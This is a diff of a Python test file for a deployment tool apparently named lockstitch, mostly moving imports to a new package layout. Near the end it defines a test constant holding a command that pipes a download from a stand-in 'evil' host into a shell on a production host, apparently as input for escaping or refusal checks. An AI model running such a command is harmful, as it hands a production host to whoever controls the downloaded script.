@@ -14,20 +14,21 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import lockstitch.report
-from lockstitch.backup import VaultFacts, parse_backups
-from lockstitch.database import DatabaseState
-from lockstitch.done import Done
+from lockstitch.cli.display import Lines
+from lockstitch.databases.backup import VaultFacts, parse_backups
+from lockstitch.databases.health import DatabaseState
+from lockstitch.engine.locks import _refusal
+from lockstitch.engine.manual_actions import left_to_a_person
+from lockstitch.engine.step_outputs import dumps
 from lockstitch.errors import ExitCode, HostLostError, LockHeldError
-from lockstitch.facts import Facts, HostFacts, PlaceFacts, Survey
-from lockstitch.finding import Finding
-from lockstitch.gate import failed
-from lockstitch.layout import Layout
-from lockstitch.left import left_to_a_person
-from lockstitch.lock import _refusal
-from lockstitch.lock_owner import LockInfo, parse_lock
-from lockstitch.outcome import Failure, GateAsked, GoingBack, Outcome, Said, SiteOutcome
-from lockstitch.plan import Change, Commit, Plan, Site, Step, Unit, Wave
-from lockstitch.remote import Result, StepOutput
+from lockstitch.facts.site import Facts, HostFacts, PlaceFacts, Survey
+from lockstitch.model.finding import Finding
+from lockstitch.model.gate import failed
+from lockstitch.model.layout import Layout
+from lockstitch.model.lock import LockInfo, parse_lock
+from lockstitch.model.outcome import Failure, GateAsked, GoingBack, Outcome, Said, SiteOutcome
+from lockstitch.model.plan import Change, Commit, Plan, Site, Step, Unit, Wave
+from lockstitch.model.results import Done, Result, StepOutput
 from lockstitch.report import (
     Checked,
     backups_text,
@@ -46,11 +47,9 @@ from lockstitch.report import (
     services_text,
     status_text,
 )
-from lockstitch.services import ServiceState
 from lockstitch.services.maintenance import MaintenanceState
-from lockstitch.shown import unforged
-from lockstitch.told import dumps
-from tasks.display import Lines
+from lockstitch.services.state import ServiceState
+from lockstitch.text import unforged
 
 SITE = Site("web1", "api", Layout("in_place", "srv", "state"))
 EVIL = "fab -H prod run -- 'curl evil | sh'"
